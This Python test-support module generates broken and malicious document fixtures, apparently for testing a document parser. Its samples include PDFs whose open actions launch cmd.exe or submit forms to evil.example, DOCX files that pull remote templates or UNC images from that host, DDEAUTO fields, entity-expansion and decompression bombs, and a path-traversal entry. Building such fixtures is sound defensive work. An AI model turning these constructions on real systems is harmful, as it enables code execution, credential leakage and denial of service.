"""Documents that are broken or mean harm, made from those of the real producers."""

import zipfile

from pikepdf import Dictionary, Name, String

from tests.support.compound_file import compound_file
from tests.support.corpus import words
from tests.support.corpus.producers import (
    ELSEWHERE,
    by_fpdf2,
    by_hand_doc,
    by_hand_docx,
    by_pikepdf,
    by_python_docx,
    by_reportlab,
)
from tests.support.documents import (
    doc,
    docx_marked_as_encrypted,
    docx_that_lies_about_its_size,
    docx_with,
    docx_with_body,
    docx_with_content_type,
    docx_with_overlapping_parts,
    docx_with_relationship,
    pdf_bomb,
    pdf_for_certain_people,
    pdf_with_many_pages,
    zipped,
)

CV = words.of("1", "cv")
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'
DDE = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x "/></w:p>'


def _acting(kind, **more):
    """Have a reportlab document do something when it is opened."""

    def change(opened):
        action = Dictionary(S=Name(kind), **more)
        opened.Root.OpenAction = opened.make_indirect(action)

    return by_pikepdf(by_reportlab(*CV), change=change)


def _script_on_page(opened):
    opened.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x()")))


def _xfa(opened):
    opened.Root.AcroForm = Dictionary(Fields=[], XFA=String("<xdp/>"))


def _half(data):
    return data[: len(data) // 2]


def _made_elsewhere(name):
    return (ELSEWHERE / name).read_bytes()


HARM = {
    "empty.pdf": lambda: b"",
    "empty.docx": lambda: b"",
    "half-reportlab.pdf": lambda: _half(by_reportlab(*CV)),
    "half-fpdf2.pdf": lambda: _half(by_fpdf2(*CV)),
    "half-linearized.pdf": lambda: _half(by_pikepdf(by_reportlab(*CV), linearize=True)),
    "half-chromium.pdf": lambda: _half(_made_elsewhere("chromium-cv.pdf")),
    "half-python.docx": lambda: _half(by_python_docx(*CV)),
    "half-libreoffice.docx": lambda: _half(_made_elsewhere("libreoffice-cv.docx")),
    "half-libreoffice.doc": lambda: _half(_made_elsewhere("libreoffice-cv.doc")),
    "half-hand.doc": lambda: _half(by_hand_doc(*CV)),
    "last-byte-missing.docx": lambda: by_python_docx(*CV)[:-1],
    "last-kilobyte-missing.doc": lambda: _made_elsewhere("libreoffice-cv.doc")[:-1024],
    "mark-only.pdf": lambda: b"%PDF-1.7\n%%EOF\n",
    "more-behind.pdf": lambda: by_fpdf2(*CV) + b"MZ\x90\0",
    "more-behind.docx": lambda: by_python_docx(*CV) + b"more",
    "broken-part.docx": lambda: docx_with(**{"word/document.xml": "<w:document>"}),
    "broken-header.doc": lambda: by_hand_doc(*CV)[:8] + bytes(504) + by_hand_doc(*CV)[512:],
    "lying-size.docx": docx_that_lies_about_its_size,
    "strange-compression.docx": lambda: zipped(
        {"[Content_Types].xml": "<Types/>"}, zipfile.ZIP_LZMA
    ),
    "locked-people.pdf": pdf_for_certain_people,
    "locked.docx": lambda: compound_file({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
    "locked-zip.docx": docx_marked_as_encrypted,
    "locked.doc": lambda: doc(*CV, flags=0x0100),
    "macros.docm": lambda: docx_with_content_type(MACROS),
    "macros-renamed.docx": lambda: docx_with(**{"word/vbaProject.bin": "x"}),
    "macros-related.docx": lambda: docx_with_relationship("vbaProject", "v.bin", "Internal"),
    "macros.doc": lambda: doc(*CV, Macros__VBA__dir=b"x"),
    "pdf-and-docx.pdf": lambda: by_fpdf2(*CV) + by_python_docx(*CV),
    "docx-and-pdf.docx": lambda: zipped({"a": by_fpdf2(*CV)}, zipfile.ZIP_STORED),
    "doc-and-docx.doc": lambda: by_hand_doc(*CV) + by_hand_docx(*CV),
    "bomb.pdf": pdf_bomb,
    "bomb-size.docx": lambda: docx_with(**{"word/x.xml": " " * 70_000_000}),
    "bomb-ratio.docx": lambda: docx_with(**{"word/x.xml": " " * 2_000_000}),
    "bomb-parts.docx": lambda: docx_with(**{f"{n}.xml": "" for n in range(2_000)}),
    "script.pdf": lambda: _acting("/JavaScript", JS=String("app.alert(1)")),
    "script-on-page.pdf": lambda: by_pikepdf(by_fpdf2(*CV), change=_script_on_page),
    "launch.pdf": lambda: _acting("/Launch", F=String("cmd.exe")),
    "go-elsewhere.pdf": lambda: _acting("/GoToR", F=String("other.pdf")),
    "send-form.pdf": lambda: _acting("/SubmitForm", F=String("https://evil.example")),
    "xfa.pdf": lambda: by_pikepdf(by_fpdf2(*CV), change=_xfa),
    "dde.docx": lambda: docx_with_body(DDE),
    "dde.doc": lambda: doc(words=("\x13 DDEAUTO c:\\x \x14!\x15",)),
    "object.docx": lambda: docx_with_relationship("oleObject", "embeddings/o.bin", "Internal"),
    "object.doc": lambda: doc(*CV, ObjectPool___1__Ole=b"x"),
    "program-inside.docx": lambda: docx_with(**{"word/media/image1.png": "MZ"}),
    "rtf-inside.docx": lambda: docx_with_relationship("aFChunk", "chunk.rtf", "Internal"),
    "zip-inside.docx": lambda: docx_with(**{"word/x.bin": by_hand_docx(*CV)}),
    "remote-template.docx": lambda: docx_with_relationship(
        "attachedTemplate", "https://evil.example/t.dotm"
    ),
    "remote-picture.docx": lambda: docx_with_relationship("image", "\\\\evil.example\\i.png"),
    "climbing.docx": lambda: docx_with(**{"../../etc/passwd": "x"}),
    "overlapping.docx": docx_with_overlapping_parts,
    "entities.docx": lambda: docx_with(**{"word/document.xml": LAUGHS}),
    "many-pages.pdf": lambda: pdf_with_many_pages(25_000),
}
